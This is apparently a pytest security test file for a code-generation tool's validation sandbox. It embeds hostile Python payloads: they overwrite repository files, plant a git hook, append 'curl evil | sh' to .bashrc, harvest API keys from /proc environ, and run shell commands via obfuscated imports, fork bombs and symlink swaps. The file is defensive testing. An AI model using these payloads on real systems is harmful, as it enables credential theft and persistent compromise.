"""Hostile generated code, run by validation as an attacker would arrange it.

Each test hands validation code that tries to do harm when something runs or imports it (an
example, a doctest, the project's own mypy plugin), with ``allow_dangerous`` set so that the
static check lets it through: the sandbox, not the static check, is the line of defence. Each
then checks that the user's tree, ``.git/hooks``, home and keys are untouched and that nothing
secret came back in the report (whose messages are fed to the next model).
"""

from __future__ import annotations

import json
import subprocess
import textwrap
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from frugalflow.core.schemas import CodeRequest, ValidationReport
from frugalflow.core.settings import Settings
from frugalflow.validation import sandbox
from frugalflow.validation.report import validate_code
from tests.support.git import git

pytestmark = pytest.mark.skipif(
    sandbox.unavailable_reason() is not None,
    reason=f"no sandbox on this machine: {sandbox.unavailable_reason()}",
)

SECRET = "sk-proj-ATTACKTESTKEY0123456789abcdefghijklmnop"


@pytest.fixture
def victim(
    make_git_repo: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> dict[str, Path]:
    """A user's repository with an uncommitted edit, a home directory, a ledger, and a key in
    the environment of this (the frugalflow) process."""
    repo = make_git_repo(
        {
            "src/pkg/__init__.py": "",
            "src/pkg/core.py": "def base():\n    return 1\n",
            "pyproject.toml": '[project]\nname = "pkg"\n',
        }
    )
    (repo / "NOTES.md").write_text("my unfinished notes\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    frugal_home = tmp_path / "frugalflow-home"
    frugal_home.mkdir()
    (frugal_home / "ledger.duckdb").write_bytes(b"ledger bytes")
    return {"repo": repo, "home": home, "frugal_home": frugal_home}


def snapshot(victim: dict[str, Path]) -> dict[str, object]:
    repo = victim["repo"]
    files = {}
    for root in (repo, victim["home"], victim["frugal_home"]):
        for path in sorted(root.rglob("*")):
            if path.is_file() and ".git/objects" not in path.as_posix():
                files[str(path)] = path.read_bytes()
    return {
        "files": files,
        "status": git(repo, "status", "--porcelain", "--ignored"),
        "hooks": sorted(p.name for p in (repo / ".git/hooks").iterdir()),
        "head": git(repo, "rev-parse", "HEAD"),
    }


def run_validation(
    code: str,
    victim: dict[str, Path],
    tmp_path: Path,
    *examples: str,
    settings: Settings | None = None,
) -> ValidationReport:
    settings = settings or Settings(
        home=victim["frugal_home"], sandbox_timeout_seconds=5, sandbox_memory_mb=512
    )
    request = CodeRequest(
        description="Write the code",
        repo=victim["repo"],
        examples=examples,
        allow_dangerous=True,
        target="src/pkg/made.py",
    )
    return validate_code(code, request, settings, tmp_path / "scratch", repo=victim["repo"])


def payload(victim: dict[str, Path], leak: Path) -> str:
    """Python that attacks everything it can reach, then says what it managed to do."""
    repo, home = victim["repo"], victim["home"]
    return textwrap.dedent(
        f"""
        import glob, os
        done = []
        def attempt(label, action):
            try:
                action()
                done.append(label)
            except BaseException:
                pass
        def write(path, text, mode="a"):
            with open(path, mode) as handle:
                handle.write(text)
        attempt("repo", lambda: write({str(repo / "NOTES.md")!r}, "pwned\\n"))
        attempt("new-file", lambda: write({str(repo / "src/pkg/evil.py")!r}, "x = 1\\n", "w"))
        hook = {str(repo / ".git/hooks/post-commit")!r}
        attempt("hook", lambda: (write(hook, "#!/bin/sh\\ntouch /tmp/owned\\n", "w"),
                                 os.chmod(hook, 0o755)))
        attempt("home", lambda: write({str(home / ".bashrc")!r}, "curl evil | sh\\n"))
        attempt("ledger", lambda: write({str(victim["frugal_home"] / "ledger.duckdb")!r}, "x"))
        stolen = []
        for environ in glob.glob("/proc/*/environ"):
            try:
                stolen.append(open(environ, "rb").read().decode("latin-1"))
            except OSError:
                pass
        stolen.append(str(dict(os.environ)))
        attempt("leak", lambda: write({str(leak)!r}, "\\n".join(stolen), "w"))
        if any("OPENAI_API_KEY=sk-proj-" in text for text in stolen):
            done.append("key: " + "; ".join(stolen))
        """
    )


def assert_untouched(before: dict[str, object], victim: dict[str, Path], leak: Path) -> None:
    after = snapshot(victim)
    assert after == before
    assert not leak.exists()
    assert not (victim["repo"] / ".git/hooks/post-commit").exists()


def assert_no_secret(report: ValidationReport) -> None:
    assert SECRET not in report.model_dump_json()


def test_code_run_by_an_example_cannot_touch_the_repo_hooks_home_ledger_or_keys(
    victim: dict[str, Path], tmp_path: Path
) -> None:
    leak = tmp_path / "leak.txt"
    before = snapshot(victim)
    code = "def attack():\n" + textwrap.indent(payload(victim, leak), "    ") + "    return done\n"
    report = run_validation(code, victim, tmp_path, "assert attack() == []")

    assert_untouched(before, victim, leak)
    assert_no_secret(report)
    # The example ran (it is what reported the attempts), and it ran in the sandbox.
    assert any(check.startswith("examples(") for check in report.checks), report.checks
    assert report.passed, report.issues


def test_code_run_by_a_doctest_cannot_touch_anything(
    victim: dict[str, Path], tmp_path: Path
) -> None:
    leak = tmp_path / "leak.txt"
    before = snapshot(victim)
    attack = textwrap.indent(payload(victim, leak), "    ")
    code = (
        "def attack():\n"
        '    """Attack.\n\n    >>> attack()\n    []\n    """\n' + attack + "    return done\n"
    )
    report = run_validation(code, victim, tmp_path)

    assert_untouched(before, victim, leak)
    assert_no_secret(report)
    assert any(check.startswith("doctests(") for check in report.checks), report.checks


def test_a_repositorys_mypy_plugin_runs_the_candidate_only_inside_the_sandbox(
    victim: dict[str, Path], tmp_path: Path
) -> None:
    """The attack that read API keys: the project configures mypy with a plugin that is the
    generated code itself, so type checking imports it."""
    repo = victim["repo"]
    (repo / "pyproject.toml").write_text(
        '[project]\nname = "pkg"\n\n[tool.mypy]\nplugins = ["candidate.py"]\n'
    )
    git(repo, "commit", "--quiet", "-am", "mypy plugin")
    leak = tmp_path / "leak.txt"
    before = snapshot(victim)
    code = payload(victim, leak) + "\n\ndef plugin(version):\n    raise SystemExit(done)\n"
    report = run_validation(code, victim, tmp_path)

    assert_untouched(before, victim, leak)
    assert_no_secret(report)
    assert any(check.startswith("types") for check in report.checks), report.checks


def test_a_shell_command_through_a_dynamic_import_stays_in_the_sandbox(
    victim: dict[str, Path], tmp_path: Path
) -> None:
    target = victim["repo"] / "src/pkg/core.py"
    marker = tmp_path / "shell-ran"
    before = snapshot(victim)
    code = (
        "def run():\n"
        '    m = __import__("subpro" + "cess")\n'
        f"    m.run('echo owned >> {target}; touch {marker}; id -u > uid.txt', shell=True)\n"
        "    return open('uid.txt').read().strip()\n"
    )
    report = run_validation(code, victim, tmp_path, "assert run() not in ('', '0')")

    assert_untouched(before, victim, tmp_path / "none")
    assert not marker.exists()
    # The shell did run, not as root: the example's own check says so.
    assert report.passed, report.issues


def test_the_sandbox_runs_as_an_unprivileged_user_with_no_capabilities(tmp_path: Path) -> None:
    script = textwrap.dedent(
        """
        import json, os
        status = dict(line.split(":", 1) for line in open("/proc/self/status"))
        try:
            open("/etc/shadow").read()
            shadow = True
        except OSError:
            shadow = False
        try:
            open("/usr/lib/frugalflow-probe", "w")
            system_writable = True
        except OSError:
            system_writable = False
        json.dump({"uid": os.getuid(), "euid": os.geteuid(), "caps": status["CapEff"].strip(),
                   "bounding": status["CapBnd"].strip(), "shadow": shadow,
                   "system_writable": system_writable, "env": dict(os.environ)},
                  open("out.json", "w"))
        """
    )
    run = sandbox.run_python(script, tmp_path / "box", files={}, timeout_seconds=10, memory_mb=256)

    out = json.loads((tmp_path / "box/out.json").read_text())
    assert out["uid"] != 0 and out["euid"] != 0
    assert int(out["caps"], 16) == 0
    assert int(out["bounding"], 16) == 0
    assert out["shadow"] is False
    assert out["system_writable"] is False
    assert SECRET not in str(out["env"])
    assert run.isolation == sandbox.BWRAP


def test_a_fork_storm_is_stopped_by_the_process_limit_and_leaves_nothing_behind(
    tmp_path: Path,
) -> None:
    script = textwrap.dedent(
        """
        import json, os, time
        children = 0
        error = ""
        try:
            for _ in range(10_000):
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
                children += 1
        except OSError as exc:
            error = str(exc)
        json.dump({"children": children, "error": error}, open("out.json", "w"))
        time.sleep(60)
        """
    )
    started = time.monotonic()
    run = sandbox.run_python(
        script, tmp_path / "box", files={}, timeout_seconds=5, memory_mb=256, max_processes=32
    )
    elapsed = time.monotonic() - started

    out = json.loads((tmp_path / "box/out.json").read_text())
    assert out["children"] < 32, out
    assert "Resource temporarily unavailable" in out["error"]
    assert run.timed_out
    assert elapsed < 15
    # Every process it started died with the sandbox.
    leftover = subprocess.run(
        ["pgrep", "-u", str(run.uid), "-f", "time.sleep"], capture_output=True, text=True
    )
    assert leftover.stdout.strip() == ""


def test_the_sandbox_process_itself_does_not_carry_the_parents_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PID 1 of the sandbox's PID namespace is bubblewrap itself: had it been started with the
    parent's environment, ``/proc/1/environ`` would hand the keys to the code inside."""
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    script = textwrap.dedent(
        """
        import glob
        seen = []
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                seen.append(open(path, "rb").read().decode("latin-1"))
            except OSError:
                seen.append("unreadable")
        open("out.txt", "w").write("\\n".join(seen))
        """
    )
    sandbox.run_python(script, tmp_path / "box", files={}, timeout_seconds=10, memory_mb=256)
    seen = (tmp_path / "box/out.txt").read_text()
    assert seen  # it did look
    assert SECRET not in seen


def test_a_fork_storm_in_one_sandbox_does_not_starve_another(tmp_path: Path) -> None:
    """Processes of one uid share one process count: each run has a uid of its own, so a storm
    that fills its own limit leaves a concurrent run's limit whole."""

    storm = textwrap.dedent(
        """
        import os, time
        for _ in range(10_000):
            try:
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
            except OSError:
                break
        open("full", "w").close()
        time.sleep(30)
        """
    )
    stormer = threading.Thread(
        target=sandbox.run_python,
        args=(storm, tmp_path / "storm"),
        kwargs={"files": {}, "timeout_seconds": 8, "memory_mb": 256, "max_processes": 32},
    )
    stormer.start()
    try:
        deadline = time.monotonic() + 8
        while not (tmp_path / "storm/full").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert (tmp_path / "storm/full").exists()  # the storm is at its limit now
        worker = textwrap.dedent(
            """
            import json, os
            children = []
            for _ in range(10):
                pid = os.fork()
                if pid == 0:
                    os._exit(0)
                children.append(pid)
            for pid in children:
                os.waitpid(pid, 0)
            json.dump(len(children), open("out.json", "w"))
            """
        )
        run = sandbox.run_python(
            worker, tmp_path / "work", files={}, timeout_seconds=5, memory_mb=256, max_processes=32
        )
        assert run.returncode == 0, run.stderr
        assert json.loads((tmp_path / "work/out.json").read_text()) == 10
    finally:
        stormer.join()


def test_a_results_file_swapped_for_a_symlink_is_not_followed_outside(
    victim: dict[str, Path], tmp_path: Path
) -> None:
    """The child cannot see the host's files, but it can name one: had this process (root,
    often) followed its symlink, the file's text would come back in the report, which goes to
    the next model."""
    secret = tmp_path / "host-secret.json"
    secret.write_text(json.dumps([{"example": SECRET, "error": "leaked"}]))
    code = (
        "import atexit, os\n\n\n"
        "def _swap():\n"
        "    os.remove('results.json')\n"
        f"    os.symlink({str(secret)!r}, 'results.json')\n\n\n"
        "atexit.register(_swap)\n\n\n"
        "def add(a, b):\n"
        "    return a + b\n"
    )
    report = run_validation(code, victim, tmp_path, "assert add(1, 2) == 3")

    assert_no_secret(report)
    assert not report.passed  # its results could not be read, so nothing is taken on trust


def test_a_symlink_left_in_a_reused_directory_is_replaced_not_written_through(
    tmp_path: Path,
) -> None:
    """A directory used again (a retried step) holds what the last child left: writing the
    next run's files must not follow its links to the host's files, as this process."""
    box = tmp_path / "box"
    target = tmp_path / "host-file"
    target.write_text("the host's own\n")
    sandbox.run_python(
        f"import os\nos.remove('data.txt')\nos.symlink({str(target)!r}, 'data.txt')\n",
        box,
        files={"data.txt": "first\n"},
        timeout_seconds=10,
        memory_mb=256,
    )
    assert (box / "data.txt").is_symlink()  # the child did leave its link

    sandbox.run_python(
        "pass", box, files={"data.txt": "second\n"}, timeout_seconds=10, memory_mb=256
    )

    assert target.read_text() == "the host's own\n"
    assert not (box / "data.txt").is_symlink()
    assert (box / "data.txt").read_text() == "second\n"
